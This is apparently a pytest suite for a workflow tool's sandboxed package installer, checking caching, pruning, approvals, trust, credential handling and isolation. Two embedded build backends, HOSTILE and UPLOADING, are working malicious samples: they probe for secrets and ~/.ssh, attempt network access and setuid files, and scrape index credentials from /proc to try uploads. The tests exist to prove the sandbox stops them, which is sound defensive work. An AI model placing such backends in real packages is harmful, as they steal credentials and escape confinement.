"""Python packages that a project names for its steps: installed once, in a sandbox, and shown to every step."""

import json
import os
import shutil
import signal
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from index import Index, source
from project import Project, wait_for

WORKFLOW = """
import sys
from wflo import Workflow
import greeting

workflow = Workflow("packages")

@workflow.step()
async def hello(context):
    return {"said": greeting.hello("you"), "at": greeting.__file__, "path": sys.path[:3], "prefix": sys.prefix}
"""


@pytest.fixture
def index() -> Iterator[Index]:
    made = Index()
    made.add(
        "greeting",
        "1.0",
        {
            "greeting.py": "import words\ndef hello(name): return f'{words.WORD} {name}'\n"
            "def main(): print(hello('program'))\n"
        },
        requires=("words>=2",),
        script="greet = greeting:main",
    )
    made.add("words", "1.0", {"words.py": "WORD = 'old'\n"})
    made.add("words", "2.1", {"words.py": "WORD = 'hello'\n"})
    yield made
    made.close()


@pytest.fixture
def asking(project: Project, index: Index) -> Project:
    """A project whose step needs a package, with a state folder of its own."""
    project.environment["XDG_STATE_HOME"] = str(project.folder.parent / "state")
    project.write("requirements.txt", "greeting==1.0  # a comment\n")
    project.write("workflow.py", WORKFLOW)
    wants(project, index)
    return project


def wants(project: Project, index: Index, more: str = "") -> None:
    base = project.settings.split("\n[sandbox]")[0]
    project.settings = base + f'\n[sandbox]\nrequirements = "requirements.txt"\nindex_url = "{index.url}"\n{more}'
    project.write_settings()


def images(project: Project) -> list[dict]:
    return project.call("sandbox", "images", "list", "--json").events


def packages(project: Project) -> list[list[str]]:
    """What each image holds, the newest first."""
    return [image["packages"] for image in images(project)]


def test_a_step_finds_what_the_project_names_and_it_is_installed_once(asking: Project, index: Index) -> None:
    first = asking.run()
    assert first.run["status"] == "completed", first
    said = first.run["outputs"]["hello"]
    assert said["said"] == "hello you" and said["at"].startswith("/opt/wflo/python/lib"), said
    assert said["prefix"] == "/opt/wflo/python", said
    notices = [event["message"] for event in first.of("run.notice") if "packages" in event["message"]]
    assert notices and "greeting==1.0, words==2.1" in notices[0], first.events
    asked = len(index.asked)
    index.close()
    again = asking.run("--no-build")
    assert again.run["status"] == "completed", "what is there needs no index"
    assert len(index.asked) == asked
    (image,) = images(asking)
    assert image["current"] and image["packages"] == ["greeting==1.0", "words==2.1"], image


def test_programs_have_the_packages_and_what_they_bring(asking: Project) -> None:
    asking.write("agent.py", "import greeting, sys\nprint(greeting.hello('agent'), sys.prefix)\n")
    asking.write("start.sh", "#!/bin/sh\ngreet && exec python3 agent.py\n").chmod(0o755)
    for command, said in (
        (["python", "agent.py"], "hello agent /opt/wflo/python\n"),
        (["greet"], "hello program\n"),
        (["./start.sh"], "hello program\nhello agent /opt/wflo/python\n"),
    ):
        done = asking.call("run", "--", *command)
        assert (done.code, done.out) == (0, said), (command, done)
    assert len(images(asking)) == 1


def test_what_is_not_there_may_be_refused(asking: Project, index: Index) -> None:
    done = asking.call("run", "--no-build")
    assert done.code == 1 and "WFLO-5328" in done.err and not index.asked, done
    for more, words in (
        (["--sandbox", "none"], 'with the backend "none" there are none'),
        (["--sandbox", "docker"], "an image have its own"),
    ):
        asking.write_settings('image = "python:3.12"\n' if "docker" in more else "")
        done = asking.call("run", *more)
        assert done.code == 2 and "WFLO-5336" in done.err and words in done.err, done
    assert not index.asked


def test_nothing_is_fetched_for_a_project_that_nobody_trusts(asking: Project, index: Index) -> None:
    del asking.environment["WFLO_TRUST"]
    for verb in (["run"], ["run", "--", "greet"], ["sandbox", "images", "build"], ["costs", "estimate"]):
        done = asking.call(*verb)
        assert done.code == 2 and "WFLO-8016" in done.err and "sandbox.requirements" in done.err, done
    assert not index.asked
    assert asking.call("trust").code == 0
    assert asking.run().run["status"] == "completed"


def test_a_change_is_another_image_and_prune_takes_what_nobody_needs(asking: Project, index: Index) -> None:
    asking.write("workflow.py", WORKFLOW.replace("@workflow.step()", "@workflow.step(approval_required=True)"))
    waiting = asking.run("--no-wait")
    assert waiting.run["status"] == "waiting", waiting
    asking.write("requirements.txt", "-r more.txt\n")
    asking.write("more.txt", "greeting==1.0\nwords<2.2\n")
    built = asking.call("sandbox", "images", "build", "--json")
    assert built.code == 0 and built.events[0]["built"], built
    asking.write("more.txt", "words==1.0\n")
    assert asking.call("sandbox", "images", "build").out == "words==1.0\n"
    assert len(images(asking)) == 3
    gone = asking.call("sandbox", "images", "prune", "--json").events[0]
    assert [image["key"] for image in gone["removed"]] == [built.events[0]["key"]], gone
    assert len(gone["kept"]) == 1, "a run that waits needs its own"
    # It goes on with what it was started with.
    (asked,) = asking.call("approvals", "list", "--json").events
    assert asking.call("approvals", "approve", asked["id"]).code == 0
    assert asking.show(waiting.run["id"])["outputs"]["hello"]["said"] == "hello you"
    asking.call("sandbox", "images", "prune", "--all")
    assert images(asking) == []
    assert asking.call("sandbox", "images", "build").code == 0


def test_another_look_at_the_index_finds_what_is_newer(asking: Project, index: Index) -> None:
    asking.write("agent.py", "import time, words; print(words.WORD, flush=True); time.sleep(600)\n")
    using = subprocess.Popen(
        [asking.wflo, "run", "--", "python", "agent.py"],
        cwd=asking.folder,
        env=asking.environment,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
    )
    try:
        assert using.stdout and using.stdout.readline() == "hello\n"
        index.add("words", "3.0", {"words.py": "WORD = 'newer'\n"})
        assert asking.call("sandbox", "images", "build").out == "greeting==1.0\nwords==2.1\n"
        assert asking.call("sandbox", "images", "build", "--again").out == "greeting==1.0\nwords==3.0\n"
        assert asking.run().run["outputs"]["hello"]["said"] == "newer you"
        # Who uses the old one keeps it, and its own is not taken away.
        asking.call("sandbox", "images", "prune", "--all")
        store = next(Path(asking.environment["XDG_STATE_HOME"]).glob("wflo/*/images"))
        assert len(list((store / "trees").iterdir())) == 2 and len(images(asking)) == 1
    finally:
        using.terminate()
        using.wait(60)
        assert using.stdout
        using.stdout.close()


def test_a_run_that_waits_keeps_the_packages_that_were_approved(asking: Project, index: Index) -> None:
    asking.write("requirements.txt", "greeting\n")
    asking.write("workflow.py", WORKFLOW.replace("@workflow.step()", "@workflow.step(approval_required=True)"))
    first, second = asking.run("--no-wait"), asking.run("--no-wait")
    assert first.run["status"] == second.run["status"] == "waiting", first
    (image,) = images(asking)
    index.files = {}
    index.add("greeting", "6.6", {"greeting.py": "def hello(name): return 'swapped'\n"})
    assert asking.call("sandbox", "images", "build", "--again").out == "greeting==6.6\n"
    asking.call("sandbox", "images", "prune", "--all")
    asked = {a["run_id"]: a["id"] for a in asking.call("approvals", "list", "--json").events}
    assert asking.call("approvals", "approve", asked[first.run["id"]]).code == 0
    assert asking.show(first.run["id"])["outputs"]["hello"]["said"] == "hello you"
    # What is gone is not replaced by anything else.
    shutil.rmtree(tree(asking, image).parent)
    done = asking.call("approvals", "approve", asked[second.run["id"]])
    assert "WFLO-5334" in done.out + done.err, done
    assert "swapped" not in json.dumps(asking.show(second.run["id"]))


def test_another_look_is_one_although_who_was_waited_for_has_failed(project: Project, asking: Project) -> None:
    go_on = threading.Event()
    go_on.set()
    index = Index(hold=go_on)
    index.add("greeting", "1.0", {"greeting.py": "def hello(name): return name\n"})
    asking.write("requirements.txt", "greeting\n")
    wants(project, index)
    build = [str(project.wflo), "sandbox", "images", "build", "--json"]
    try:
        assert asking.call(*build[1:]).code == 0
        index.add("greeting", "2.0", {"greeting.py": "def hello(name): return name\n"})
        index.begun.clear()
        go_on.clear()
        first = project.begin(*build, "--again")
        assert index.begun.wait(60)
        second = project.begin(*build, "--again")
        wait_for(lambda: "another wflo" in second.err, "the second waits for the first")
        first.kill()
        first.finish()
        go_on.set()
        (built,) = second.finish().events
        assert built["built"] and built["packages"] == ["greeting==2.0"], built
    finally:
        go_on.set()
        index.close()


def test_who_waits_for_a_build_can_be_interrupted(project: Project, asking: Project) -> None:
    asking.write("workflow.py", WORKFLOW.replace("    return {", "    raise ValueError\n    return {"))
    assert asking.run().run["status"] == "failed"
    go_on = threading.Event()
    index = Index(hold=go_on)
    wants(project, index)
    try:
        building = project.begin(str(project.wflo), "sandbox", "images", "build")
        assert index.begun.wait(60)
        retry = project.begin(str(project.wflo), "runs", "retry", "latest")
        wait_for(lambda: "another wflo" in retry.err, "it waits for the build")
        retry.kill(signal.SIGINT)
        assert retry.finish().code != 0 and index.begun.is_set() and not go_on.is_set()
        building.kill()
        building.finish()
    finally:
        go_on.set()
        index.close()


@contextmanager
def slow_index(project: Project) -> Iterator[tuple[Index, threading.Event]]:
    """An index with what the project wants, which gives nothing out before it is told to."""
    go_on = threading.Event()
    index = Index(hold=go_on)
    index.add("greeting", "1.0", {"greeting.py": "def hello(name): return name\n"})
    wants(project, index)
    try:
        yield index, go_on
    finally:
        go_on.set()
        index.close()


def test_two_at_once_do_one_work(project: Project, asking: Project) -> None:
    with slow_index(project) as (index, go_on):
        first = project.start("run")
        assert index.begun.wait(60)
        second = project.begin(str(project.wflo), "run", "--json")
        wait_for(lambda: "another wflo" in second.err, "the second waits for the first")
        go_on.set()
        assert first.finish().run["status"] == second.finish().run["status"] == "completed"
        assert sum(path.startswith("/files/") for path in index.asked) == 1, index.asked


def test_a_build_that_is_killed_leaves_nothing_that_anybody_sees(project: Project, asking: Project) -> None:
    with slow_index(project) as (index, go_on):
        killed = project.start("run")
        assert index.begun.wait(60)
        killed.kill()
        killed.finish()
        assert images(project) == []
        wait_for(lambda: not project.processes(), "nothing of it is left")
        go_on.set()
        assert project.run().run["status"] == "completed"
        assert len(images(project)) == 1


@pytest.mark.usefixtures("failpoints")
def test_a_crash_before_the_record_is_as_if_nothing_was_installed(asking: Project) -> None:
    done = asking.call("sandbox", "images", "build", WFLO_FAILPOINT="image.record.before")
    assert done.code < 0 and images(asking) == [], done
    store = next(Path(asking.environment["XDG_STATE_HOME"]).glob("wflo/*/images"))
    assert list((store / "trees").iterdir())
    assert asking.call("sandbox", "images", "prune").code == 0
    assert not list((store / "trees").iterdir()) and not list((store / "made").iterdir())
    assert asking.run().run["status"] == "completed"


HOSTILE = """
import os, socket, sys, zipfile
from pathlib import Path

def marks():
    for place in {places!r}:
        try:
            Path(place).parent.mkdir(parents=True, exist_ok=True)
            Path(place).write_text("was here")
        except OSError:
            pass
    found = [name for name in ("{secret}", "{project}/workflow.py", "{home}/.ssh") if os.path.exists(name)]
    try:
        socket.create_connection(("{other}", {port}), 5)
        found.append("network")
    except OSError:
        pass
    target = Path("/opt/wflo/python")
    if not (target / "fifo").exists():
        os.mkfifo(target / "fifo")
        (target / "out").symlink_to("{secret}")
    (target / "setuid").write_text("x")
    (target / "setuid").chmod(0o6755)
    (target / "pyvenv.cfg").write_text("home = {home}/.ssh\\nversion = 3.11\\n")
    return found + sorted(os.environ)

def build_wheel(folder, config_settings=None, metadata_directory=None):
    name = "evil-1.0-py3-none-any.whl"
    info = "evil-1.0.dist-info"
    with zipfile.ZipFile(os.path.join(folder, name), "w") as archive:
        archive.writestr("evil.py", "FOUND = " + repr(marks()))
        archive.writestr(info + "/METADATA", "Metadata-Version: 2.1\\nName: evil\\nVersion: 1.0\\n")
        archive.writestr(info + "/WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        archive.writestr(info + "/RECORD", "")
    return name
"""


def test_code_of_a_package_runs_in_a_sandbox_and_only_where_that_is_wanted(
    asking: Project, index: Index, tmp_path: Path
) -> None:
    secret = tmp_path / "secret"
    secret.write_text("SECRET")
    other = Index()
    host, port = other.at.split(":")
    marks = [str(tmp_path / "mark"), str(asking.folder / "mark"), f"/tmp/wflo-evil-mark-{os.getpid()}"]
    text = HOSTILE.format(places=marks, secret=secret, project=asking.folder, home=tmp_path, other=host, port=port)
    index.files["evil-1.0.tar.gz"] = source("evil", "1.0", {
        "backend.py": text,
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
    })  # fmt: skip
    asking.write("requirements.txt", "evil==1.0\ngreeting\n")
    asking.write("agent.py", "import evil, json; print(json.dumps(evil.FOUND))\n")
    done = asking.call("run", "--", "python", "agent.py")
    assert done.code == 1 and "WFLO-5331" in done.err and "source_builds" in done.err, done
    assert not any(path.startswith("/files/evil") for path in index.asked), "not even fetched"
    wants(asking, index, "source_builds = true\n")
    done = asking.call("sandbox", "images", "build")
    other.close()
    assert done.code == 0, done
    assert not any(Path(mark).exists() for mark in marks) and not other.asked
    (image,) = images(asking)
    tree = next(Path(asking.environment["XDG_STATE_HOME"]).glob(f"wflo/*/images/trees/{image['tree']}/tree"))
    assert not (tree / "fifo").exists() and (tree / "setuid").stat().st_mode & 0o7777 == 0o755
    packages = next(tree.glob("lib/python3*/site-packages"))
    said = (packages / "evil.py").read_text()
    found = json.loads(said.removeprefix("FOUND = ").replace("'", '"'))
    assert not {str(secret), f"{asking.folder}/workflow.py", "network"} & set(found), found
    # Whatever it wrote into its own environment, a step sees no more of this machine for that.
    asking.write("agent.sh", "cat /opt/wflo/python/out || echo nothing\n")
    done = asking.call("run", "--", "sh", "agent.sh")
    assert done.out == "nothing\n", done


def wants_with_secret(asking: Project, index: Index, authority: Path, package: str, more: str = "") -> None:
    """A package of an index that asks for a password, which is a secret of its host."""
    asking.environment["REAL_TOKEN"] = "the-real-token"
    asking.settings = asking.settings.split("\n[sandbox]")[0]
    asking.write_settings(f"""
        [sandbox]
        requirements = ["{package}"]
        {more}
        index_url = "https://robot:${{PKG_TOKEN}}@{index.at}/simple"
        ca_file = "{authority / "ca.pem"}"

        [secrets.packages]
        env = "PKG_TOKEN"
        value_env = "REAL_TOKEN"
        hosts = ["{index.at}"]
    """)


def test_credentials_of_an_index_reach_the_index_and_nobody_else(
    asking: Project, authority: Path, tmp_path: Path
) -> None:
    index = Index(tls=authority / "host.pem")
    index.password = "robot:the-real-token"
    index.add("greeting", "1.0", {"greeting.py": "def hello(name): return name\n"})
    wants_with_secret(asking, index, authority, "greeting")
    asking.write("workflow.py", WORKFLOW.replace("sys.path[:3]", "dict(__import__('os').environ)"))
    done = asking.run("-v")
    index.close()
    assert done.run["status"] == "completed", done
    assert set(index.credentials) == {"robot:the-real-token"}
    assert "the-real-token" not in done.out + done.err
    for place in (asking.folder, Path(asking.environment["XDG_STATE_HOME"])):
        kept = [file for file in place.rglob("*") if file.is_file() and not file.is_symlink()]
        assert not [file for file in kept if b"the-real-token" in file.read_bytes()]


def tree(project: Project, image: dict) -> Path:
    """What an image holds, on this machine."""
    state = Path(project.environment["XDG_STATE_HOME"])
    return next(state.glob(f"wflo/*/images/trees/{image['tree']}/tree"))


def test_what_was_installed_is_not_started_to_say_what_it_is(asking: Project, index: Index) -> None:
    startup = "import os, sys; open('/opt/wflo/python/started', 'w').write(repr(sys.orig_argv))\n"
    index.add("startup", "1.0", {"startup.py": "", "startup.pth": startup})
    asking.write("requirements.txt", "startup\ngreeting\n")
    done = asking.call("sandbox", "images", "build")
    assert (done.code, done.out) == (0, "greeting==1.0\nstartup==1.0\nwords==2.1\n"), done
    (image,) = images(asking)
    assert not (tree(asking, image) / "started").exists()
    assert list(tree(asking, image).glob("lib/python3*/site-packages/startup.pth")), "it is there for steps"


UPLOADING = """
import base64, os, re, socket, ssl, zipfile
from urllib.parse import urlsplit

def upload():
    said = [open(f"/proc/{pid}/cmdline").read().split("\\0") for pid in os.listdir("/proc") if pid.isdigit()]
    url = urlsplit(next(words[words.index("--index-url") + 1] for words in said if "--index-url" in words))
    proxy = urlsplit(next(words[words.index("--proxy") + 1] for words in said if "--proxy" in words))
    at = f"{url.hostname}:{url.port}"
    tunnel = socket.create_connection((proxy.hostname, proxy.port))
    tunnel.sendall(f"CONNECT {at} HTTP/1.1\\r\\nHost: {at}\\r\\n\\r\\n".encode())
    assert b" 200" in tunnel.recv(4096).split(b"\\r\\n")[0]
    trust = ssl.create_default_context(cafile="/tmp/trusted.pem")
    way = trust.wrap_socket(tunnel, server_hostname=url.hostname)
    known = base64.b64encode(f"{url.username}:{url.password}".encode()).decode()
    for method in ("PUT", "POST"):
        head = f"{method} /legacy/ HTTP/1.1\\r\\nHost: {at}\\r\\nAuthorization: Basic {known}\\r\\n"
        way.sendall((head + "Content-Length: 1\\r\\n\\r\\nx").encode())
        yield way.recv(4096).split(b"\\r\\n")[0].decode()

def build_wheel(folder, config_settings=None, metadata_directory=None):
    said = []
    try:
        said += upload()
    except (OSError, AssertionError) as error:
        said.append(repr(error))
    name, info = "evil-1.0-py3-none-any.whl", "evil-1.0.dist-info"
    with zipfile.ZipFile(os.path.join(folder, name), "w") as archive:
        archive.writestr("evil.txt", repr(said))
        archive.writestr(info + "/METADATA", "Metadata-Version: 2.1\\nName: evil\\nVersion: 1.0\\n")
        archive.writestr(info + "/WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        archive.writestr(info + "/RECORD", "")
    return name
"""


def test_a_secret_of_an_index_fetches_and_sends_nothing(asking: Project, authority: Path) -> None:
    index = Index(tls=authority / "host.pem")
    index.password = "robot:the-real-token"
    index.files["evil-1.0.tar.gz"] = source("evil", "1.0", {
        "backend.py": UPLOADING,
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
    })  # fmt: skip
    wants_with_secret(asking, index, authority, "evil", "source_builds = true")
    done = asking.call("sandbox", "images", "build")
    index.close()
    assert done.code == 0, done
    (image,) = images(asking)
    (said,) = tree(asking, image).glob("lib/python3*/site-packages/evil.txt")
    assert " 403 " in said.read_text() and not index.posted, (said.read_text(), index.posted)


def test_a_build_reaches_its_index_and_no_other_host(asking: Project, index: Index) -> None:
    other = Index()
    other.add("elsewhere", "1.0", {"elsewhere.py": ""})
    file = "elsewhere-1.0-py3-none-any.whl"
    index.pages["elsewhere"] = f'<a href="http://{other.at}/files/{file}">{file}</a>'
    asking.write("requirements.txt", "elsewhere\n")
    done = asking.call("sandbox", "images", "build")
    assert done.code == 1 and "WFLO-5331" in done.err and other.at in done.err and "index_hosts" in done.err, done
    assert not other.asked
    wants(asking, index, f'index_hosts = ["{other.at}"]\n')
    assert asking.call("sandbox", "images", "build").code == 0
    other.close()


def test_an_index_at_an_own_address_is_refused_by_that_name_with_the_setting_that_lets_it(
    asking: Project, index: Index
) -> None:
    named = index.url.replace("127.0.0.2", "localhost")
    asking.settings = asking.settings.replace(index.url, named)
    asking.write_settings()
    done = asking.call("sandbox", "images", "build")
    said = " ".join(done.err.split())
    assert done.code == 1 and "WFLO-5331" in said and not index.asked, done
    assert "could not be installed: localhost:" in said and "[WFLO-5203]" in said, done
    assert "allow_addresses under [sandbox]" in said and "index_hosts" not in said, done


def test_a_build_has_the_room_that_it_is_given(asking: Project, index: Index) -> None:
    index.add("greeting", "2.0", {"greeting.py": "", "large.txt": "0" * (40 << 20)})
    asking.write("requirements.txt", "greeting==2.0\n")
    wants(asking, index, 'build_disk_limit = "32m"\n')
    done = asking.call("sandbox", "images", "build")
    assert done.code == 1 and "WFLO-5332" in done.err and "build_disk_limit" in done.err, done
    wants(asking, index, 'build_disk_limit = "256m"\n')
    assert asking.call("sandbox", "images", "build").code == 0


def test_what_cannot_be_read_is_refused_with_its_line(asking: Project, index: Index) -> None:
    asking.write("requirements.txt", "greeting\n-e .\n")
    done = asking.call("run")
    assert done.code == 1 and "WFLO-5326" in done.err and "requirements.txt:2" in done.err, done
    asking.write("requirements.txt", "greeting\n")
    asking.settings = asking.settings.replace(index.url, "http://pkgs.example.org/simple")
    asking.write_settings()
    done = asking.call("run")
    assert done.code == 1 and "WFLO-5327" in done.err, done
